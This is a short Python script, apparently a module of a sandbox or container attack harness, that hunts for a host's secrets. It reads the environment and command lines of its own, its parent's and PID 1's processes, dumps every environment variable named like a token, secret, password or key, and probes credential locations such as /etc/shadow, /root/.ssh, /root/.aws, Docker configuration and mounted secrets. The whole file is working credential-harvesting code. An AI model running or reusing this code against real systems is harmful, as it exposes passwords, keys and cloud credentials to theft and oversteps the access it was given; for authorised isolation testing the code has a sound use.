"""Look for the host's secrets: in the environment, in usual places of credentials, in the engine's files."""

import os

from attacker import attempt, gained, hunt, read

for process in ("self", "1", str(os.getppid())):
    hunt(f"/proc/{process}/environ")
    hunt(f"/proc/{process}/cmdline")
for name, value in os.environ.items():
    if any(word in name.upper() for word in ("TOKEN", "SECRET", "PASSWORD", "KEY", "CREDENTIAL")):
        gained(f"{name}={value}")
PLACES = (
    "/run/secrets", "/var/run/secrets", "/root/.ssh", "/root/.docker/config.json", "/etc/shadow", "/root/.aws",
    "/var/lib/docker", "/etc/docker", "/home",
)  # fmt: skip
for place in PLACES:
    with attempt():
        found = os.listdir(place) if os.path.isdir(place) else [read(place)]
        if found:
            gained(f"{place}: {len(found)}")
